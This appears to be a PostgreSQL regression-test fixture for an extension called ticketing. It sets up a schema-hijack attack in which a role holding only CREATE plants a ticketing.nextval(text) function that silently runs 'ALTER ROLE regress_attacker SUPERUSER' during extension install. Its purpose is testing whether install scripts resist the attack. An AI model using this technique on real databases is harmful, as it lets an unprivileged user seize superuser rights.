-- The schema-hijack attack of issue 11, as a role with nothing but CREATE on the
-- database would set it up before a superuser runs CREATE EXTENSION ticketing: a
-- schema named ticketing holding a nextval(text). While the install script runs, the
-- schema comes first on search_path, and an unqualified, unknown-typed
-- nextval('ticketing.audit_id_seq') in a column default prefers nextval(text) to
-- pg_catalog.nextval(regclass); every sale would then run this function with the
-- extension owner's rights. Included by sql/20_schema_hijack.sql (the current scripts
-- refuse the schema) and test/reliability/t/005_hijack_1_1.pl (the 1.1 scripts adopt it
-- and the attacker becomes superuser).
CREATE ROLE regress_attacker;
GRANT CREATE ON DATABASE :"DBNAME" TO regress_attacker;
SET ROLE regress_attacker;
CREATE SCHEMA ticketing;
CREATE FUNCTION ticketing.nextval(text) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'ALTER ROLE regress_attacker SUPERUSER';
    RETURN pg_catalog.nextval($1::pg_catalog.regclass);   -- the sale goes on as usual
END
$$;
GRANT USAGE ON SCHEMA ticketing TO PUBLIC;
RESET ROLE;
